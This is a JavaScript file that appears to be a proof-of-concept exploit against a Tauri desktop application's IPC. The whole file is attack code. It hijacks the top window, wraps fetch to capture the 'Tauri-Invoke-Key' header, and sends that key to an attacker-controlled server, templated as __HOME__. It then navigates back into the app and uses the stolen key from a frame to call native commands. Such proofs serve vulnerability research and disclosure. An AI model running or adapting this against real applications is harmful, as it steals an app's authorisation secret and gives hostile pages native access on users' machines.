// Takes the top window's place, reads the key there, goes back to the app's page, and calls from the frame.
const stolenKey = () => fetch('__HOME__/stolen').then((response) => (response.ok ? response.text() : ''));

/** The attacker's server remembers the key between the two steps. */
async function goBackWith(key) {
  await report('stolen', key);
  while ((await stolenKey()) === '');
  location.href = 'tauri://localhost/main.html';
  setTimeout(report, 4000, 'waited');
  return new Promise(() => undefined);
}

(async () => {
  if (top === self) {
    const fetched = window.fetch;
    window.fetch = (address, options) => {
      const key = options?.headers && new Headers(options.headers).get('Tauri-Invoke-Key');
      if (!key) return fetched(address, options);
      return goBackWith(key);
    };
    __TAURI_INTERNALS__.invoke('nothing').catch(() => undefined);
    return;
  }
  const stolen = await stolenKey();
  if (stolen) {
    callNatively(...VISIBLE, stolen);
    await tried();
    return;
  }
  onClick(() => {
    report('clicked');
    try {
      top.location = location.href;
    } catch {
      // What matters is what becomes of it.
    }
    setTimeout(report, 4000, 'waited');
  });
})();
